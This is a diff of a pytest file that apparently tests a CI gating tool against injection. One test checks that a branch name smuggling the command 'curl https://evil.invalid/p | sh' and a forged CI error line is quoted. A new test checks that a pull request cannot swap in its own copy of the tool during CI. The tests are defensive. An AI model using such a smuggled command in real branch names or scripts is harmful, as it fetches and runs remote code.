@@ -10,6 +10,7 @@ import time
 import git
 import pytest
 
+from conftest import REPO
 from finalacts.git import Repository
 from finalacts.workflows import gate
 from gitcorpus import APT_MANIFEST, _built, commit, corpus, edit, run_cli  # noqa: F401
@@ -131,3 +132,31 @@ def test_a_branch_name_that_is_a_command_is_quoted_in_the_hint(corpus):
         out = run_cli(corpus, "proposal", "check", "--format", fmt).stdout
         assert not any(line.startswith("::error::forged") for line in out.splitlines()), out
         assert "'x && curl https://evil.invalid/p | sh\\n::error::forged'" in out
+
+
+def test_ci_installs_the_pinned_finalacts_whatever_the_pull_request_adds(corpus):
+    """A pull request that adds a pyproject.toml named "finalacts" must not make CI install (and
+    be checked by) its own finalacts: the choice is read from the base commit."""
+    import os
+    import subprocess
+
+    from finalacts.corpus import yamlfile
+
+    wf = yamlfile.load((REPO / ".github/workflows/finalacts.yml").read_bytes(), "wf").data
+    step = next(s for s in wf["jobs"]["gate"]["steps"] if s.get("name") == "Install finalacts")
+    gl = yamlfile.load((REPO / "templates/gitlab-ci.yml").read_bytes(), "gl").data["finalacts"]
+    gitlab = next(line for line in gl["before_script"] if "pip install" in line)
+    repo = git.Repo(corpus)
+    base = repo.git.rev_parse("HEAD")
+    (corpus / "pyproject.toml").write_text('[project]\nname = "finalacts"\n', encoding="utf-8")
+    commit(repo, "bring my own finalacts")
+    # `pip` is a shell function here: the test is about which one the script asks for.
+    for script, env in ((step["run"], {"TRUSTED": base}), (gitlab, {"CI_MERGE_REQUEST_DIFF_BASE_SHA": base})):
+        r = subprocess.run(["bash", "-eo", "pipefail", "-c", 'pip() { echo "pip $*"; }\n' + script], cwd=corpus,
+                           env={**os.environ, "FINALACTS_SPEC": "finalacts==0.1.0", **env},
+                           capture_output=True, text=True)
+        assert r.stdout.strip() == "pip install finalacts==0.1.0", (script, r.stdout, r.stderr)
+    # The finalacts repository itself still installs its own tree.
+    r = subprocess.run(["bash", "-eo", "pipefail", "-c", 'pip() { echo "pip $*"; }\n' + step["run"]],
+                       cwd=REPO, env={**os.environ, "TRUSTED": "HEAD"}, capture_output=True, text=True)
+    assert r.stdout.strip() == "pip install ."
